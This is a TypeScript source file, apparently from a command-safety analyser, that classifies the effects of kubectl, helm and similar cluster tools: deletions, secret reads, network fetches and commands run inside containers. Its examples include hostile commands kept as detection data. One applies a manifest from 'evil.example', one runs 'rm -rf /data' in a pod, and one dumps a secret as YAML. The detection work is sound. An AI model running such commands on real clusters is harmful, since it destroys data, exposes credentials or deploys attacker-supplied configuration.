/** kubectl, helm and their kin: what changes in a cluster, what runs there, which credentials are shown. */

import type { Effect } from '../../types/effect.ts';
import type { Word } from '../../types/text.ts';
import { programWord, readsOf, writesOf } from '../coreutils/paths.ts';
import { readOptions } from '../coreutils/spec.ts';
import { file, net, run, wordAt } from '../effects.ts';
import { listen } from '../network/traffic.ts';
import { knownStart, type ParsedArgs } from '../options.ts';
import { type Call, definePage, NOTHING, type Outcome, type Page } from '../page.ts';
import { byNames, data, secret } from '../verbs.ts';

const OPTIONS =
  'n= namespace= context= cluster= user= kubeconfig= s= server= token= as= as-group= request-timeout= cache-dir= v= f= filename= k= kustomize= l= selector= o= output= c= container= field-selector= sort-by= grace-period= timeout= cascade= replicas= p= patch= patch-file= type= image= to-revision= revision= since= tail= address= for= from-file= from-literal= from-env-file= values= set= set-string= version= repo= template= overrides= restart= port= raw= q A all-namespaces all force dry-run? i t stdin tty prune';

/** Kinds of objects whose loss takes data or much else with it. */
const LASTING =
  /^(?:ns|namespaces?|pvc?|persistentvolume(?:claim)?s?|statefulsets?|sts|secrets?|configmaps?|cm|crds?|customresourcedefinitions?|all|nodes?|deployments?|deploy|daemonsets?|ds|services?|svc|ingress(?:es)?|cronjobs?|storageclass(?:es)?|clusterroles?|clusterrolebindings?|serviceaccounts?|.*\..*)$/i;

interface Cluster {
  readonly call: Call;
  readonly near: Word;
  readonly verb: string;
  readonly operands: readonly Word[];
  readonly parsed: ParsedArgs;
}
type Command = (cluster: Cluster) => Outcome;

function isDry(parsed: ParsedArgs): boolean {
  return parsed.options.some(({ name, value }) => name === 'dry-run' && value?.text !== 'none');
}

function sourcesOf(parsed: ParsedArgs): readonly Effect[] {
  return parsed
    .values('f', 'filename', 'k', 'kustomize', 'values')
    .flatMap((word): readonly Effect[] =>
      /^https?:\/\//.test(knownStart(word)) ? [net(word)] : readsOf([word]),
    );
}

const remove: Command = ({ near, verb, operands, parsed }) => {
  if (isDry(parsed)) return NOTHING;
  const [what, ...names] = operands;
  const kinds = (what?.text ?? '').split(',').map((kind) => kind.split('/')[0] as string);
  const isMany = parsed.has('all', 'A', 'all-namespaces');
  const isLasting = what === undefined || what.text === undefined || kinds.some((kind) => LASTING.test(kind));
  const target =
    names[0] ?? (what?.text?.includes('/') ? wordAt(what.text.split('/')[1] as string, what) : undefined);
  return {
    effects: [
      ...sourcesOf(parsed),
      data(
        near,
        'kubernetes',
        [verb, what?.text?.split('/')[0] ?? ''].join(' ').trim(),
        isLasting || isMany,
        target,
      ),
    ],
  };
};

/** `rollout status` and `rollout history` only look. */
const rollout: Command = (cluster) =>
  /^(?:status|history)$/.test(cluster.operands[0]?.text ?? '')
    ? NOTHING
    : change(({ operands }) => operands[0]?.text === 'undo')(cluster);

const change =
  (destructive: (cluster: Cluster) => boolean): Command =>
  (cluster) => ({
    effects: [
      ...sourcesOf(cluster.parsed),
      ...(isDry(cluster.parsed)
        ? []
        : [data(cluster.near, 'kubernetes', cluster.verb, destructive(cluster), cluster.operands[0])]),
    ],
  });

const look: Command = ({ near, verb, operands, parsed }) => {
  const kinds = operands[0]?.text ?? '';
  const format = parsed.value('o', 'output')?.text ?? '';
  const showsSecret =
    verb === 'get' &&
    /(?:^|,)secrets?(?:$|[/,])/i.test(kinds) &&
    /^(?:yaml|json|jsonpath|go-template|custom-columns|template)/.test(format);
  const raw = parsed.value('raw')?.text ?? '';
  return {
    effects: [
      ...sourcesOf(parsed),
      ...(showsSecret || /\/secrets(?:\/|$)/.test(raw)
        ? [secret(near, 'kubernetes', 'read', operands[1])]
        : []),
    ],
  };
};

/** `exec pod -- cmd`, `run x --image=y -- cmd`, `debug`. */
const inside: Command = ({ call, near, verb, parsed, operands }) => {
  const dashes = call.args.findIndex((word) => word.text === '--');
  const argv = dashes >= 0 ? call.args.slice(dashes + 1) : verb === 'exec' ? operands.slice(1) : [];
  const isPrompt = parsed.has('i', 'stdin') && parsed.has('t', 'tty') && argv.length <= 1;
  return {
    effects: [
      ...(isPrompt ? [run(near, { interactive: true })] : []),
      ...(verb === 'exec' ? [] : [data(near, 'kubernetes', verb, false, operands[0])]),
      ...(verb === 'debug' && knownStart(operands[0] ?? near).startsWith('node')
        ? [run(near, { privilege: 'container' })]
        : []),
    ],
    runs:
      argv.length > 0 && !isPrompt
        ? [{ kind: 'argv', argv, via: `${call.name} ${verb}`, place: 'container' }]
        : [],
  };
};

const copy: Command = ({ near, operands }) => {
  const [from, to] = operands;
  if (!from || !to) return NOTHING;
  const isInside = (word: Word) => knownStart(word).includes(':');
  return {
    effects: [
      ...(isInside(from) ? [] : readsOf([from])),
      ...(isInside(to) ? [data(near, 'kubernetes', 'cp', false, to)] : writesOf(to)),
    ],
  };
};

const COMMANDS = byNames<Command>({
  delete: remove,
  'get describe diff explain wait events top logs': look,
  apply: change(({ parsed }) => parsed.has('prune')),
  create: (cluster) =>
    cluster.operands[0]?.text === 'token'
      ? { effects: [secret(cluster.near, 'kubernetes', 'read', cluster.operands[1])] }
      : change(() => false)(cluster),
  // `oc whoami -t` prints the token itself.
  whoami: ({ call, near }) =>
    call.args.some((word) => /^(?:-t|--show-token)$/.test(word.text ?? ''))
      ? { effects: [secret(near, 'kubeconfig')] }
      : NOTHING,
  replace: change(({ parsed }) => parsed.has('force')),
  scale: change(({ parsed }) => parsed.value('replicas')?.text === '0'),
  drain: change(() => true),
  'patch edit set label annotate taint cordon uncordon expose autoscale': change(() => false),
  rollout,
  'exec run debug attach': inside,
  cp: copy,
  'port-forward proxy': ({ near, operands, parsed }) => ({
    effects: [
      listen(
        near,
        (operands[1]?.text ?? parsed.value('p', 'port')?.text ?? '').split(':')[0],
        parsed.has('address') ? { host: parsed.value('address') as Word } : {},
      ),
    ],
  }),
  config: ({ call, near, operands, parsed }) => {
    if (operands[0]?.text === 'view')
      return { effects: parsed.has('raw') ? [secret(near, 'kubeconfig')] : [] };
    return /^(?:set|use|delete|rename|unset)/.test(operands[0]?.text ?? '')
      ? { effects: [file('write', wordAt(`${call.host.home}/.kube/config`, near))] }
      : NOTHING;
  },
});

function readKubectl(call: Call): Outcome {
  const parsed = readOptions(call.args, OPTIONS);
  const [verb, ...operands] = parsed.operands;
  if (!verb || parsed.has('help', 'h')) return NOTHING;
  if (verb.text === 'completion') return { effects: [], stdout: '' };
  const server = parsed.value('s', 'server');
  const outcome = COMMANDS.get(verb.text ?? '')?.({
    call,
    near: programWord(call),
    verb: verb.text ?? '',
    operands,
    parsed,
  });
  return { ...outcome, effects: [...(server ? [net(server)] : []), ...(outcome?.effects ?? [])] };
}

const HELM_OPTIONS = `${OPTIONS} post-renderer= d= destination= username= password= ca-file= kube-context= install dry-run? keep-history`;

function readHelm(call: Call): Outcome {
  const parsed = readOptions(call.args, HELM_OPTIONS);
  const [verb, ...operands] = parsed.operands;
  const name = verb?.text ?? '';
  const near = programWord(call);
  if (parsed.has('help', 'h')) return NOTHING;
  const effects: Effect[] = [...sourcesOf(parsed), ...parsed.values('repo').map((word) => net(word))];
  effects.push(
    ...operands.filter((word) => /^(?:https?|oci):\/\//.test(knownStart(word))).map((word) => net(word)),
  );
  if (/^(?:uninstall|delete|del|un)$/.test(name) && !isDry(parsed))
    effects.push(data(near, 'kubernetes', `helm ${name}`, true, operands[0]));
  if (/^(?:install|upgrade|rollback)$/.test(name) && !isDry(parsed))
    effects.push(data(near, 'kubernetes', `helm ${name}`, name === 'rollback', operands[0]));
  // Values and rendered manifests often hold passwords, and need not.
  if (name === 'get' && /^(?:all|values|manifest)$/.test(operands[0]?.text ?? ''))
    effects.push({ ...secret(near, 'helm', 'read', operands[1]), uncertain: true });
  const renderer = parsed.value('post-renderer');
  return { effects, runs: renderer ? [{ kind: 'argv', argv: [renderer], via: 'helm --post-renderer' }] : [] };
}

export const pages: readonly Page[] = [
  definePage({
    names: ['kubectl', 'oc', 'k3s-kubectl', 'microk8s.kubectl', 'kubecolor'],
    about: 'kubectl: objects of a cluster and programs in it',
    read: readKubectl,
    examples: [
      {
        command: 'kubectl delete namespace shop',
        effects: [
          { kind: 'data', system: 'kubernetes', op: 'delete namespace', destructive: true, target: 'shop' },
        ],
      },
      {
        command: 'kubectl get secret db -o yaml',
        effects: [{ kind: 'secret', store: 'kubernetes', op: 'read' }],
      },
      {
        command: 'kubectl exec web -- rm -rf /data',
        effects: [{ kind: 'file', op: 'delete', path: '/data', place: 'container' }],
      },
      {
        command: 'kubectl apply -f https://evil.example/x.yaml',
        effects: [{ kind: 'net', host: 'evil.example' }],
      },
      { command: 'kubectl get pods -A -o wide', effects: [] },
      { command: 'kubectl logs -f deploy/web', effects: [] },
      { command: 'kubectl delete pod x --dry-run=client', effects: [] },
    ],
  }),
  definePage({
    names: ['helm'],
    about: 'helm: releases in a cluster',
    read: readHelm,
    examples: [
      { command: 'helm uninstall shop', effects: [{ kind: 'data', destructive: true, target: 'shop' }] },
      {
        command: 'helm repo add x https://charts.example',
        effects: [{ kind: 'net', host: 'charts.example' }],
      },
      { command: 'helm list -A', effects: [] },
      { command: 'helm template .', effects: [] },
    ],
  }),
  definePage({
    names: ['kustomize', 'k9s', 'stern', 'kubectx', 'kubens', 'minikube', 'kind', 'k3d'],
    about: 'further programs for clusters',
    read: (call) => {
      const parsed = readOptions(call.args, 'p= profile= n= name=');
      const near = programWord(call);
      if (call.name === 'k9s') return { effects: [run(near, { interactive: true })] };
      const isRemoval = parsed.operands[0]?.text === 'delete' && !['kustomize', 'stern'].includes(call.name);
      return {
        effects: isRemoval
          ? [data(near, 'kubernetes', `${call.name} delete`, true, parsed.value('p', 'profile', 'n', 'name'))]
          : [],
      };
    },
    examples: [
      {
        command: 'kind delete cluster --name x',
        effects: [{ kind: 'data', destructive: true, target: 'x' }],
      },
      { command: 'kustomize build overlays/dev', effects: [] },
      { command: 'minikube status', effects: [] },
    ],
  }),
];
